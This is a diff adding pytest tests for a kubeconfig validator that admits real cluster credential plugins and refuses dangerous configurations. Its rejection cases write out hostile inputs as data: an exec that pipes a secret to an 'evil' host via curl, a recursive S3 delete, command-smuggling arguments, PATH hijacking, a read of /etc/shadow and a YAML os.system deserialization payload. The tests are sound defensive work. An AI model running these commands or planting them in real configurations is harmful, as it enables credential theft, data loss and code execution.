@@ -1,0 +1,135 @@
+"""A kubeconfig from a secret: what clusters need passes; what runs a program, reads a file or goes in the clear does not."""
+
+import base64
+import json
+from typing import Any
+
+import pytest
+
+from torchrelay import kubeconfig
+from torchrelay.errors import LoginFailed
+
+SECRET = "hunter2-hunter2-hunter2"
+
+
+def config(user: dict[str, Any] | None = None, cluster: dict[str, Any] | None = None, **more: Any) -> dict[str, Any]:
+    return {
+        "apiVersion": "v1",
+        "kind": "Config",
+        "current-context": "c",
+        "clusters": [
+            {"name": "c", "cluster": {"server": "https://k8s.example", "certificate-authority-data": "QQ=="} | (cluster or {})}
+        ],
+        "contexts": [{"name": "c", "context": {"cluster": "c", "user": "u"}}],
+        "users": [{"name": "u", "user": user if user is not None else {"token": SECRET}}],
+    } | more
+
+
+def runs(command: str, *arguments: str, env: Any = None) -> dict[str, Any]:
+    return {"exec": {"apiVersion": "client.authentication.k8s.io/v1", "command": command, "args": list(arguments), "env": env}}
+
+
+@pytest.mark.parametrize(
+    "user",
+    [
+        {"token": SECRET},
+        {"client-certificate-data": "QQ==", "client-key-data": SECRET},
+        runs("aws", "--region", "eu-west-1", "eks", "get-token", "--cluster-name", "c", "--output", "json"),
+        runs("aws", "eks", "get-token", "--cluster-name", "c", "--role-arn", "arn:aws:iam::123456789012:role/x"),
+        runs("aws", "eks", "get-token", env=[{"name": "AWS_PROFILE", "value": "x"}]),
+        runs("aws-iam-authenticator", "token", "-i", "c"),
+        runs("gke-gcloud-auth-plugin"),
+        runs("kubelogin", "get-token", "--login", "workloadidentity"),
+    ],
+)
+def test_what_real_clusters_need_passes(user: dict[str, Any]) -> None:
+    assert kubeconfig.checked(json.dumps(config(user)))["users"][0]["user"] == user
+
+
+def test_plain_http_on_loopback_passes() -> None:
+    kubeconfig.checked(json.dumps(config(cluster={"server": "http://127.0.0.1:8001"})))
+
+
+@pytest.mark.parametrize(
+    ("found", "message"),
+    [
+        (config(runs("sh", "-c", f"curl evil?{SECRET}")), "would run sh"),
+        (config(runs("./aws", "eks", "get-token")), r"would run \./aws"),
+        (config(runs("/opt/aws", "eks", "get-token")), "would run /opt/aws"),
+        (config(runs("aws", "eks", "get-token", "--endpoint-url", "https://evil.example")), "something else than a token"),
+        (config(runs("aws", "s3", "rm", "--recursive", "s3://x")), "something else than a token"),
+        (config(runs("aws", "eks", "get-token", "--endpoint-url", "x;y")), "something else than a token"),
+        (config(runs("aws", "eks", "get-token", "--cluster-name", "c", "s3", "rm")), "something else than a token"),
+        (config(runs("gke-gcloud-auth-plugin", "--impersonate")), "something else than a token"),
+        (config({"exec": {"command": ["aws"]}}), "would run"),
+        (config({"exec": "aws eks get-token"}), "would run None"),
+        (config({"exec": {"command": "aws", "args": "eks get-token"}}), "something else than a token"),
+        (config(runs("aws", "eks", "get-token", env=[{"name": "AWS_CONFIG_FILE", "value": "x"}])), "sets AWS_CONFIG_FILE"),
+        (config(runs("aws", "eks", "get-token", env=[{"name": "PATH", "value": "."}])), "sets PATH"),
+        (config(runs("aws", "eks", "get-token", env={"PATH": "."})), "sets None"),
+        (config({"auth-provider": {"config": {"cmd-path": "/bin/sh"}}}), "auth-provider"),
+        (config({"tokenFile": "/etc/shadow"}), "`tokenFile` names a file"),
+        (config({"client-key": "key.pem"}), "`client-key` names a file"),
+        (config(cluster={"certificate-authority": "ca.pem"}), "`certificate-authority` names a file"),
+        (config(cluster={"server": "http://k8s.example"}), "no https:// address"),
+        (config(cluster={"server": 5}), "no https:// address"),
+        (config(cluster={"insecure-skip-tls-verify": True}), "gives the credentials to anyone"),
+        (config(cluster={"insecure-skip-tls-verify": "yes"}), "gives the credentials to anyone"),
+        (config(contexts=[]), "has no contexts"),
+        (config(**{"current-context": "x"}), "names none of its contexts"),
+        (config(kind="List"), "has not `kind: Config`"),
+        (config(users={"u": {"token": SECRET}}), "has not `kind: Config`"),
+        (config(clusters=None), "has not `kind: Config`"),
+    ],
+)
+def test_what_does_something_else_is_refused_without_its_values(found: dict[str, Any], message: str) -> None:
+    with pytest.raises(LoginFailed, match=message) as caught:
+        kubeconfig.checked(json.dumps(found, indent=1))
+    assert SECRET not in str(caught.value)
+    assert caught.value.fix
+
+
+@pytest.mark.parametrize(
+    ("text", "message"),
+    [
+        ("", "1: is not YAML"),
+        (f"just {SECRET}", "1: is not YAML"),
+        (f"a: [\n{SECRET}", "is not YAML"),
+        (f"kind: Config\n\ttoken: {SECRET}", "2: is not YAML"),
+        (f"kind: Config\nkind: {SECRET}", "2: a key is written twice"),
+        (f"&a {SECRET}: *b", "is not YAML"),
+        ("!!python/object/apply:os.system [id]", "is not YAML"),
+    ],
+)
+def test_text_that_is_none_is_refused_by_its_line_alone(text: str, message: str) -> None:
+    with pytest.raises(LoginFailed, match=f"kubeconfig:{message}" if message[0].isdigit() else message) as caught:
+        kubeconfig.checked(text)
+    assert SECRET not in str(caught.value)
+    assert caught.value.__cause__ is None
+
+
+def test_a_second_exec_cannot_hide_behind_the_first() -> None:
+    """Other readers take the last of two equal keys, ours the first: neither is taken."""
+    text = json.dumps(config(runs("aws", "eks", "get-token"))).replace('"command": "aws"', '"command": "aws", "command": "sh"')
+    with pytest.raises(LoginFailed, match="written twice"):
+        kubeconfig.checked(text)
+
+
+def test_the_line_of_the_problem_is_named() -> None:
+    text = json.dumps(config(runs("sh")), indent=1)
+    line = next(number for number, row in enumerate(text.splitlines(), 1) if '"command"' in row)
+    with pytest.raises(LoginFailed, match=f"kubeconfig:{line}: would run sh"):
+        kubeconfig.checked(text)
+
+
+def test_base64_is_taken_as_many_store_it() -> None:
+    text = json.dumps(config())
+    wrapped = base64.encodebytes(text.encode()).decode()
+    assert kubeconfig.text_of(wrapped) == text
+    assert kubeconfig.text_of(text) == text
+    assert kubeconfig.text_of("abc") == "abc"
+
+
+def test_secrets_are_known_for_masking() -> None:
+    found = config({"token": SECRET, "password": "p", "client-key-data": "k", "client-certificate-data": "public"})
+    assert list(kubeconfig.secrets_of(found)) == [SECRET, "p", "k"]
